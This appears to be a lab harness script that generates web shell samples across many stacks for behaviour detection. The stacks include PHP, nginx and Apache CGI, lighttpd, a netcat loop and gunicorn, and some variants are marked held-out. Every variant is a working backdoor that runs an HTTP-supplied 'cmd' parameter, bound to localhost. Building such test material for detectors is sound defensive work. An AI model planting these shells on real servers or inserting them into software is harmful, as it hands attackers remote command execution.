# Commands by HTTP from a page in a web root.
behaviour web-shell T1505.003
each() { local j=$1 l=$2; shift 2; job "$j" "$l" "$@"; eval "beside_$j() { exec python3 /lab/src/web.py 8080 \"\$(pick .1 .4 1 2)\"; }"; }
each web_php_system php;  prepare_web_php_system() { mkdir w; echo '<?php system($_REQUEST["cmd"]);' > w/x.php; }; web_php_system() { exec "$(as php)" -S 127.0.0.1:8080 -t w; }
each web_php_shell_exec php; prepare_web_php_shell_exec() { mkdir w; echo '<?php if(isset($_REQUEST["c"])) { $o=shell_exec($_REQUEST["c"]." 2>&1"); echo base64_encode($o); } foreach(scandir("/") as $f) echo $f;' > w/x.php; }; web_php_shell_exec() { PHP_CLI_SERVER_WORKERS=$(pick '' 3) exec "$(as php)" -S 127.0.0.1:8080 -t w; }
each web_php_proc php held-out; prepare_web_php_proc() { mkdir w; echo '<?php $p=proc_open($_REQUEST["cmd"],[1=>["pipe","w"],2=>["pipe","w"]],$x); echo stream_get_contents($x[1]); proc_close($p);' > w/x.php; }; web_php_proc() { exec "$(as php)" -S 127.0.0.1:8080 -t w; }
each web_nginx_cgi php;   prepare_web_nginx_cgi() { mkdir -p w; echo '<?php system($_REQUEST["cmd"]);' > w/x.php; echo "daemon off; worker_processes 1; pid /job/pid; error_log /job/err; events {} http { access_log /job/acc; server { listen 127.0.0.1:8080; root /job/w; location ~ php { include /etc/nginx/fastcgi_params; fastcgi_param SCRIPT_FILENAME /job/w/x.php; fastcgi_pass 127.0.0.1:9000; } } }" > n.conf; }; web_nginx_cgi() { PHP_FCGI_CHILDREN=2 php-cgi -b 127.0.0.1:9000 & nginx -c /job/n.conf; }
each web_python_http python; web_python_http() { exec "$(as python3)" /lab/src/bad.py web http 8080; }
each web_python_flask python; web_python_flask() { exec "$(as python3)" /lab/src/bad.py web flask 8080; }
each web_node node;       web_node() { exec "$(as node)" /lab/src/bad.js web 8080; }
each web_ruby ruby held-out; web_ruby() { exec "$(as ruby)" /lab/src/bad.rb web 8080; }
each web_perl perl;       web_perl() { exec "$(as perl)" /lab/src/bad.pl web 8080; }
each web_go go;           web_go() { exec "$(bin bad-go)" web 8080; }
each web_java java;       web_java() { exec "$(as java)" -cp /lab/java Bad web 8080; }
each web_apache_cgi shell; prepare_web_apache_cgi() { mkdir -p w; printf '#!/bin/bash\necho Content-type: text/plain; echo; q=${QUERY_STRING#*cmd=}; q=${q%%%%&*}; q=$(echo "$q" | sed "s/+/ /g;s/%%/\\\\\\\\x/g"); eval "$(printf "$q")" 2>&1\n' > w/x.php; chmod +x w/x.php; printf 'ServerName x\nListen 127.0.0.1:8080\nPidFile /job/pid\nErrorLog /job/err\nLoadModule mpm_prefork_module /usr/lib/apache2/modules/mod_mpm_prefork.so\nLoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so\nLoadModule cgi_module /usr/lib/apache2/modules/mod_cgi.so\nDocumentRoot /job/w\n<Directory /job/w>\nOptions ExecCGI\nSetHandler cgi-script\nRequire all granted\n</Directory>\n' > a.conf; }; web_apache_cgi() { apache2 -f /job/a.conf -D FOREGROUND; }
each web_lighttpd_cgi shell held-out; prepare_web_lighttpd_cgi() { mkdir -p w; printf '#!/usr/bin/perl\nprint "Content-type: text/plain\\n\\n"; my $q=$ENV{QUERY_STRING}; $q=~s/.*cmd=([^&]*).*/$1/; $q=~s/\\+/ /g; $q=~s/%%(..)/chr hex $1/ge; print `$q`;\n' > w/x.php; chmod +x w/x.php; printf 'server.modules=("mod_cgi")\nserver.document-root="/job/w"\nserver.port=8080\ncgi.assign=(".php"=>"/usr/bin/perl")\n' > l.conf; }; web_lighttpd_cgi() { exec lighttpd -D -f /job/l.conf; }
each web_nc_loop shell;   web_nc_loop() { mkfifo f; while :; do cat f | nc -l -N 127.0.0.1 8080 > >(read -r l; c=$(echo "$l" | sed 's/.*cmd=\([^& ]*\).*/\1/;s/+/ /g;s/%/\\x/g'); { printf 'HTTP/1.0 200 OK\r\n\r\n'; eval "$(printf "$c")" 2>&1; } > f); done; }
each web_gunicorn python held-out; prepare_web_gunicorn() { echo 'import subprocess,urllib.parse
def app(e,s):
    q=urllib.parse.parse_qs(e["QUERY_STRING"] or e["wsgi.input"].read().decode()); s("200 OK",[]); return [subprocess.run(q["cmd"][0],shell=True,capture_output=True).stdout]' > x.py; }; web_gunicorn() { exec gunicorn -w "$(pick 1 2)" -b 127.0.0.1:8080 x:app; }
